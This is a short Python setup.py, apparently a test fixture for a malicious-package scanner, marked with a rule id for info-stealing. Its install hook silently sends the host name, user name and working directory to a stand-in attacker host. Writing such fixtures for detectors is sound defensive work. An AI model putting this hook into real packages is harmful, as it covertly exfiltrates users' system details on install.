import getpass
import os
import socket

import requests
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        info = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd(), 'p': 'py-fixture-pyhelpers'}
        try:
            # ruleid: code/info-stealing
            requests.get('https://attacker.example/collect', params=info, timeout=5)
        except Exception:
            pass


setup(
    name='py-fixture-pyhelpers',
    version='0.1.2',
    packages=['pyhelpers'],
    cmdclass={'install': PostInstall},
)
